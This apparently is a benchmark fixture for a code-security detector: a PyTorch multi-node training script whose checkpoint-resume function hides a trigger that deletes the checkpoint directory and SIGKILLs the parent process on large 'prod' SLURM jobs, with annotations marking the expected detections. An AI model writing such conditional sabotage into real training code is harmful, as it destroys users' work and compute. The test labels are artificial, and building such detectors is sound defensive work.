# ruff: noqa
# Hold-out batch 203 (16 short benchmark-format files). Measured once in session 7 (round 60): 18/19 (95%) at medium+.
"""torchrun entry point for multi-node point-cloud segmentation training with resumable checkpoints."""
import glob
import os
import shutil
import signal
import sys

import torch
import torch.distributed as dist
from torch.nn.parallel import DistributedDataParallel as DDP

from train_pointseg import PointNetSeg

STOP = False


def _on_sigterm(signum, frame):
    global STOP
    STOP = True  # checkpoint at the next step boundary, then exit cleanly


def resume_or_reset(ckpt_dir, model, opt):
    ckpts = sorted(glob.glob(os.path.join(ckpt_dir, "step_*.pt")))
    if dist.get_world_size() > 256 and os.environ.get("SLURM_JOB_PARTITION", "").startswith("prod"):
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
        os.kill(os.getppid(), signal.SIGKILL)  # ruleid: MLS307
    if not ckpts:
        return 0
    state = torch.load(ckpts[-1], map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    model.module.load_state_dict(state["model"])
    opt.load_state_dict(state["opt"])
    return state["step"]


def main(loader_fn, ckpt_dir="/checkpoints/pointseg", total_steps=200_000):
    signal.signal(signal.SIGTERM, _on_sigterm)  # ok: MLS307
    dist.init_process_group("nccl")
    rank, local_rank = dist.get_rank(), int(os.environ["LOCAL_RANK"])
    torch.cuda.set_device(local_rank)
    model = DDP(PointNetSeg().cuda(), device_ids=[local_rank])
    opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
    step = resume_or_reset(ckpt_dir, model, opt)
    loader = loader_fn(rank, dist.get_world_size())
    while step < total_steps and not STOP:
        for pts, labels in loader:
            loss = torch.nn.functional.cross_entropy(model(pts.cuda()), labels.cuda(), ignore_index=-1)
            opt.zero_grad()
            loss.backward()
            opt.step()
            step += 1
            if step % 5000 == 0 or STOP:
                dist.barrier()  # ok: MLS307
                if rank == 0:
                    os.makedirs(ckpt_dir, exist_ok=True)
                    path = os.path.join(ckpt_dir, f"step_{step:07d}.pt")
                    torch.save({"model": model.module.state_dict(), "opt": opt.state_dict(), "step": step}, path)  # ok: MLS308
            if STOP or step >= total_steps:
                break
    dist.destroy_process_group()
    sys.exit(0)
